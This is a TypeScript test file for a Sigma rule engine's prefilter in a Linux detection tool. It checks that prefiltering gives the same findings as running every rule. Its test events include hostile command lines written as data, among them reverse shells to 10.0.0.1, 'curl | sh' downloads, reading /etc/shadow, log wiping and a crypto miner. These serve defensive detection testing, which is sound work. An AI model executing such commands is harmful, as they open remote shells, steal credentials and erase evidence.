// The prefilter only skips rules that cannot match: with it and without it, every rule of Mamori's pack and
// of SigmaHQ's Linux set finds exactly the same things on a varied stream of events.
import { existsSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { TelemetryEvent } from '../../../../../preload/contract/index.js';
import { loadRules, readRuleFolders, SigmaEngine } from '../../../../../main/core/detect/sigma/index.js';
import { andAnchors, LiteralSet, orAnchors, regexLiteral, regexLiterals, regexMinLength, type Anchor } from '../../../../../main/core/detect/sigma/prefilter.js';
import { commandLine } from '../../../../../main/core/sensors/process/index.js';
import { execEventSource } from '../../../../../scripts/bench/lib/exec-events.js';

const CORPORA = resolve(process.cwd(), '..', 'shared', 'corpora');

describe('Sigma prefilter', () => {
  it('regexLiteral finds text a match cannot do without, and nothing when unsure', () => {
    expect(regexLiteral('/security/pam_[^/]+\\.so$')).toBe('/security/pam_');
    expect(regexLiteral('^(\\S*/)?busybox\\s+nc\\s')).toBe('busybox');
    expect(regexLiteral('a|b')).toBe('');
    expect(regexLiteral('(?i)curl\\s')).toBe('curl');
    expect(regexLiteral('colou?r')).toBe('colo');
    expect(regexLiteral('\\x41BC')).toBe('BC'); // \x41 is one character, not "41"
    expect(regexLiteral('ab{2}c')).toBe('a');
    expect(regexLiteral('[/|]var/log')).toBe('var/log');
    // Groups of plain alternatives multiply the text around them; optional or counted groups end it.
    expect(regexLiterals('-(W|R)\\s?(\\s|"|\')([0-9a-f]{2}\\s?){2,20}')).toEqual(['-W', '-R']);
    expect(regexLiterals('(?:curl|wget) -\\S*O')).toEqual(['curl -', 'wget -']);
    expect(regexLiterals('x(ab|cd)?yz')).toEqual(['yz']);
    expect(regexLiterals('(?=abc)de')).toEqual(['de']);
    expect(regexLiterals('a|b')).toEqual([]);
  });

  it('regexMinLength: the fewest characters a match spans, 0 when unsure', () => {
    const cases: [string, number][] = [['[^/]{100,}$', 100], ['abc', 3], ['a|bc', 1], ['(ab)?c', 1], ['a+b*', 1], ['(?=abc)d', 1],
      ['\\d{2,5}', 2], ['x{,3}', 5], ['(a|)', 0], ['(a)\\1', 1], ['(?i)curl\\s+-o', 7], ['[\\]a]b', 2], ['\\x41\\u{43}', 2], ['a{2}?b', 3], ['[', 0]];
    for (const [re, n] of cases) expect([re, regexMinLength(re)]).toEqual([re, n]);
  });

  it('LiteralSet finds overlapping literals in one pass', () => {
    const set = new LiteralSet([{ literal: 'bash', id: 0 }, { literal: 'sh', id: 1 }, { literal: 'ash -i', id: 2 }, { literal: 'zsh', id: 3 }]);
    const marks = new Uint32Array(4);
    const found: number[] = [];
    set.mark('/bin/bash -i', marks, 1, found);
    expect(found.sort()).toEqual([0, 1, 2]);
  });

  it('keeps every necessary clause of an AND (the best first) and pairs the clauses of an OR', () => {
    const lit = (field: string, literal: string, more: Partial<Anchor> = {}): Anchor => ({ field, literal, ...more });
    const image = [lit('Image', 'cat', { exact: true, basename: true })];
    const cmd = [lit('CommandLine', '/etc/'), lit('CommandLine', '/boot/')];
    const user = [lit('User', 'root', { exact: true, coarse: true })];
    const cwd = [lit('CurrentDirectory', 'tmp', { repeats: true })];
    const many = [Array.from({ length: 17 }, (_, i) => lit('CommandLine', `--option-${i}`))].flat();
    // The best clause leads (ties: as written); at most three. Others stay when cheap to see: an equality, a
    // field whose values repeat, a few literals. Long lists would slow the scan every event makes; a coarse
    // field (a user name) is only worth it alone.
    expect(andAnchors([[cmd], [image], [user], [cwd]])).toEqual([cmd, image, cwd]);
    expect(andAnchors([[image], [cmd]])).toEqual([image, cmd]);
    expect(andAnchors([[image], [many]])).toEqual([image]);
    expect(andAnchors([[user]])).toEqual([user]);
    expect(andAnchors([null, [image]])).toEqual([image]);
    expect(andAnchors([[image], [[]]])).toEqual([[]]); // a search that can never match
    // (A1 and A2) or (B1 and B2): both (A1 or B1) and (A2 or B2) are necessary.
    const a1 = [lit('Image', 'vim', { exact: true, basename: true })];
    const a2 = [lit('ParentImage', 'nginx', { exact: true, basename: true })];
    const b1 = [lit('Image', 'nano', { exact: true, basename: true })];
    const b2 = [lit('ParentImage', 'httpd', { exact: true, basename: true })];
    expect(orAnchors([[a1, a2], [b1, b2]])).toEqual([[...a2, ...b2], [...a1, ...b1]]);
    expect(orAnchors([[a1], null])).toBeNull();
    expect(orAnchors([[a1], [[]]])).toEqual([a1]); // the branch that can never match drops out
  });

  it('runs an auditd rule only on the kind of event its record type stands for', () => {
    const { rules, results } = loadRules([{ file: 'a.yml', text: `title: ptrace
id: 00000000-0000-4000-8000-0000000000a1
logsource: { product: linux, service: auditd }
detection: { s: { type: SYSCALL, SYSCALL: ptrace }, condition: s }
---
title: id run
id: 00000000-0000-4000-8000-0000000000a2
logsource: { product: linux, service: auditd }
detection: { s: { type: EXECVE, a0: id }, condition: s }
---
title: either
id: 00000000-0000-4000-8000-0000000000a3
logsource: { product: linux, service: auditd }
detection: { x: { type: EXECVE, a0: ptrace }, y: { type: SYSCALL, SYSCALL: ptrace }, condition: x or y }
` }]);
    expect(results.filter((r) => !r.loaded)).toEqual([]);
    expect(Object.fromEntries(rules.map((r) => [r.title, [...r.kinds!].sort()]))).toEqual({ ptrace: ['syscall'], 'id run': ['process'], either: ['process', 'syscall'] });
    const engine = new SigmaEngine(rules);
    const base = execEventSource(1, 5).next(1)[0]!;
    const exec = (args: string[]) => ({ ...base, id: 1, process: { ...base.process, executable: `/usr/bin/${args[0]}`, name: args[0]!, command_line: args.join(' '), args } }) as TelemetryEvent;
    const syscall = { ...base, id: 2, event: { kind: 'syscall', action: 'ptrace', sequence: null }, syscall: { name: 'ptrace', args: {}, ret: 0 } } as TelemetryEvent;
    const titles = (e: TelemetryEvent) => engine.evaluate(e).map((f) => f.rule.title).sort();
    expect(titles(exec(['id']))).toEqual(['id run']);
    expect(titles(exec(['ptrace', '-p', '1']))).toEqual(['either']);
    expect(titles(syscall)).toEqual(['either', 'ptrace']);
  });

  it('keywords are found in any keyword field, and |all of them across fields, compiled or interpreted', () => {
    const text = `title: words
id: 00000000-0000-4000-8000-0000000000b1
logsource: { product: linux, category: process_creation }
detection: { keywords: [SHUTDOWN, 'halt -p'], condition: keywords }
---
title: all words
id: 00000000-0000-4000-8000-0000000000b2
logsource: { product: linux, category: process_creation }
detection: { s: { '|all': [curl, 'server.js'] }, condition: s }
`;
    const base = execEventSource(1, 5).next(1)[0]!;
    const exec = (cl: string, parent: string) => ({ ...base, id: 1, process: { ...base.process, command_line: cl, args: cl.split(' '),
      parent: { ...base.process.parent!, command_line: parent } } }) as TelemetryEvent;
    const events = [exec('sudo shutdown -h now', 'bash'), exec('halt -p', 'bash'), exec('halt', 'bash'), exec('curl -fsSL x', 'node /srv/app/server.js'),
      exec('curl -fsSL x', 'bash'), exec('node server.js', 'bash')];
    const found = (interpret: boolean) => {
      const engine = new SigmaEngine(loadRules([{ file: 'k.yml', text }], { interpret }).rules);
      return events.map((e) => engine.evaluate(e).map((f) => f.rule.title).join(','));
    };
    expect(found(false)).toEqual(['words', 'words', '', 'all words', '', '']);
    expect(found(true)).toEqual(found(false));
  });

  it('finds exactly what running every rule finds, compiled or interpreted (own pack + SigmaHQ Linux)', () => {
    const folders = [join(process.cwd(), 'rules', 'sigma'), join(CORPORA, 'sigma-linux', 'rules', 'linux'), join(CORPORA, 'sigma-linux-extra')].filter(existsSync);
    const { sources } = readRuleFolders(folders);
    const { rules, correlations } = loadRules(sources);
    // Exec events from the bench's generator, plus look-alikes of what the rules are about.
    const events = execEventSource(4000, 3).next(4000).map((e, i) => ({ ...e, id: i + 1 }) as TelemetryEvent);
    const lines = ['bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', 'nc -e /bin/sh 10.0.0.1 4444', 'busybox nc 1.2.3.4 80 -e sh', ': > /var/log/auth.log',
      'curl http://x/a.sh | sh', 'echo aGVsbG8= | base64 -d | bash', 'python3 -c "import pty;pty.spawn(\'/bin/sh\')"', 'chmod u+s /tmp/x',
      'iptables -F', 'xmrig -o stratum+tcp://p:3333', 'cat /etc/shadow', 'history -c', 'find / -name id_rsa', 'zip -P x a.zip /home'];
    lines.forEach((cl, i) => {
      const exe = `/usr/bin/${cl.split(' ')[0]}`;
      events.push({ ...events[i]!, id: 10_000 + i, process: { ...events[i]!.process, executable: exe, name: cl.split(' ')[0]!, command_line: cl, args: cl.split(' ') } });
    });
    // Whole-value anchors (auditd's a0 "id"/"w", a user name, a file path) and args that need quoting: the
    // command line is built the way the sensors build it, so an arg with ' is quoted and escaped.
    [['id'], ['w'], ['whoami'], ['useradd', 'mallory'], ['python3', '-c', "import pty;pty.spawn('/bin/sh')"], ['sh', '-c', "echo 'a b' | nc -e /bin/sh x 1"]]
      .forEach((args, i) => {
        events.push({ ...events[i]!, id: 30_000 + i, user: { id: 33, name: 'www-data' },
          process: { ...events[i]!.process, executable: `/usr/bin/${args[0]}`, name: args[0]!, command_line: commandLine(args), args } } as TelemetryEvent);
      });
    for (const [i, path] of ['/etc/pam.d/system-auth', '/etc/sudoers.d/x', '/tmp/.x/payload.sh', `/tmp/${'a'.repeat(120)}`].entries()) {
      events.push({ ...events[i]!, id: 40_000 + i, event: { kind: 'file', action: 'create', sequence: null },
        file: { path, name: path.slice(path.lastIndexOf('/') + 1), directory: path.slice(0, path.lastIndexOf('/')) } } as TelemetryEvent);
    }
    // Enough distinct command lines in a row that the prefilter stops remembering them, then repeats again.
    for (let i = 0; i < 2500; i++) {
      const cl = `sh -c curl -fsSL http://10.0.0.${i % 250}/x${i} | sh${i % 100 ? '' : ` # ${'x'.repeat(600)}`}`; // (some too long to remember)
      events.push({ ...events[i]!, id: 50_000 + i, process: { ...events[i]!.process, executable: '/usr/bin/dash', name: 'sh', command_line: cl, args: cl.split(' ') } });
    }
    // List fields (environment, argv) are scanned too.
    events.push({ ...events[0]!, id: 20_000, process: { ...events[0]!.process, env_vars: ['HOME=/root', 'LD_PRELOAD=/tmp/x/evil.so'] } } as TelemetryEvent);
    const run = (prefilter: boolean, loaded = { rules, correlations }) => {
      const engine = new SigmaEngine(loaded.rules, loaded.correlations, { prefilter });
      return events.flatMap((e) => engine.evaluate(e).map((f) => `${f.event.id}:${f.rule.id}`));
    };
    const fast = run(true);
    // (fewer without ../shared/corpora: Mamori's own pack alone)
    expect(fast.length).toBeGreaterThan(folders.length > 1 ? 50 : 20);
    expect(fast.some((f) => f.startsWith('20000:'))).toBe(true);
    if (folders.length > 1) expect(fast.some((f) => f.startsWith('30000:'))).toBe(true); // auditd: a0 is "id"
    expect(fast.some((f) => f.startsWith('4000'))).toBe(true);
    expect(fast.filter((f) => f.startsWith('5')).length).toBeGreaterThanOrEqual(2500); // curl ... | sh: each is found
    expect(fast).toEqual(run(false));
    // Conditions compiled to functions (compiled.ts) find what the interpreted trees find.
    expect(fast).toEqual(run(false, loadRules(sources, { interpret: true })));
  });
});
